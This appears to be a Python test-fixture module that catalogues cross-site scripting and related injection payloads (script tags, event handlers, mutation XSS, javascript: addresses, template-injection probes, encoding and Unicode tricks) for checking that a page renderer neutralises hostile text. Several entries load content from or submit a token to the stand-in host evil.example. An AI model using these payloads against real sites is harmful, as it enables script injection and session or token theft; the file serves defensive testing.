"""What a hostile publisher, reader or link may write where text is expected (row F48).

Each would leave a mark in the page if it ran: ``window.ran``, a dialog, a request, an element.
"""

from __future__ import annotations

_RUN = "window.ran=1"

PAYLOADS: dict[str, str] = {
    # Elements
    "script": f"<script>{_RUN}</script>",
    "script-upper": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script-slash": f"<script/x>{_RUN}</script>",
    "script-newline": f"<script\n>{_RUN}</script\n>",
    "script-elsewhere": "<script src=//evil.example/x.js></script>",
    "script-own-host": "<script src=/feeds/search.json?q=x></script>",
    "script-nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-unclosed": f"<script>{_RUN}//",
    "script-closing": f"</script><script>{_RUN}</script>",
    "script-comment": f"<!--<script>--><script>{_RUN}</script>",
    "style-element": "<style>*{display:none!important}</style>",
    "style-import": "<style>@import '//evil.example/x.css';</style>",
    "link-style": "<link rel=stylesheet href=//evil.example/x.css>",
    "base": "<base href=//evil.example/>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "meta-script": f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "frame-script": f"<iframe src=javascript:parent.{_RUN}></iframe>",
    "object": "<object data=//evil.example/x></object>",
    "embed": "<embed src=//evil.example/x>",
    "form": "<form action=//evil.example/><input name=token autofocus></form>",
    "button-form": f"<button form=f formaction=javascript:{_RUN}>ok</button>",
    "template": f"<template><script>{_RUN}</script></template>",
    "shadow": f"<div><template shadowrootmode=open><img src=x onerror={_RUN}></template></div>",
    "portal": "<portal src=//evil.example/></portal>",
    # Handlers
    "image-error": f"<img src=x onerror={_RUN}>",
    "image-quotes": f"<img src='x' onerror='{_RUN}'>",
    "image-slashes": f"<img/src=x/onerror={_RUN}>",
    "image-tab": f"<img src=x\tonerror\t=\t{_RUN}>",
    "image-unclosed": f"<img src=x onerror={_RUN} x=",
    "image-pixel": "<img src=//evil.example/pixel.gif width=1 height=1>",
    "body-load": f"<body onload={_RUN}>",
    "input-focus": f"<input onfocus={_RUN} autofocus>",
    "details-toggle": f"<details open ontoggle={_RUN}>x</details>",
    "media-error": f"<video><source onerror={_RUN}></video>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "animation": f"<x style='animation:a' onanimationstart={_RUN}>x</x>",
    "popover": f"<x popover onbeforetoggle={_RUN}>x</x>",
    "hidden-until-found": f"<x hidden=until-found onbeforematch={_RUN}>x</x>",
    # SVG and MathML
    "svg-load": f"<svg onload={_RUN}>",
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg-set-link": f"<svg><a><set attributeName=href to=javascript:{_RUN} />x</a></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "svg-use": "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "math-link": f"<math href=javascript:{_RUN}>x</math>",
    # Mutations: what a parser turns into something else when it reads it again
    "mutation-noscript": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "mutation-math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "mutation-svg": f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    "mutation-title": f"</title><img src=x onerror={_RUN}>",
    "mutation-textarea": f"</textarea><img src=x onerror={_RUN}>",
    "mutation-select": f"</option></select><img src=x onerror={_RUN}>",
    "mutation-cdata": f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    "cdata-end": f"]]><script>{_RUN}</script>",
    "comment-end": f"--><img src=x onerror={_RUN}>",
    "processing": f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    # Out of an attribute, a script, a style
    "double-quote": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "single-quote": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "backtick": f"` onfocus={_RUN} autofocus `",
    "no-quote": f"x onfocus={_RUN} autofocus",
    "quote-and-tag": f'"><img src=x onerror={_RUN}>',
    "script-string": f"';{_RUN};'",
    "script-template": f"${{{_RUN}}}",
    "line-separator": f"\u2028{_RUN}\u2029",
    "style-value": "red;background:url(//evil.example/x)",
    "style-expression": f"x:expression({_RUN})",
    # Addresses
    "javascript": f"javascript:{_RUN}",
    "javascript-mixed": f"JaVaScRiPt:{_RUN}",
    "javascript-tab": f"java\tscript:{_RUN}",
    "javascript-newline": f"java\nscript:{_RUN}",
    "javascript-comment": f"javascript://wire.example/%0a{_RUN}",
    "data-address": f"data:text/html,<script>{_RUN}</script>",
    "vbscript": "vbscript:msgbox(1)",
    # Templates of servers and scripts
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "format": "{0.__class__} %(x)s %s",
    "angular": "{{constructor.constructor('window.ran=1')()}}",
    # Encodings
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "entities-twice": f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    "entities-numeric": f"&#60;img src=x onerror={_RUN}&#62;",
    "entity-no-semicolon": f"&ltimg src=x onerror={_RUN}&gt",
    "percent": f"%3Cscript%3E{_RUN}%3C/script%3E",
    "script-escapes": f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    "full-width": f"＜script＞{_RUN}＜/script＞",
    "utf-7": f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    # Characters
    "bidi-override": "\u202egnp.exe\u202c harmless",
    "bidi-isolate": "\u2067<b>\u2069 never closed \u2066",
    "null": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "zero-width": f"<\u200bscript>{_RUN}</\u200bscript>",
    "stacked-marks": "Z" + "\u0301\u0302\u0323" * 20,
    "escape": "\x1b]0;title\x07\x1b[31mred",
    "byte-order": f"\ufeff<script>{_RUN}</script>",
}
"""By name, what it is."""

LINES = [" ".join([*PAYLOADS.values()][start::12]) for start in range(12)]
"""Several payloads in one text: a page each would take minutes."""
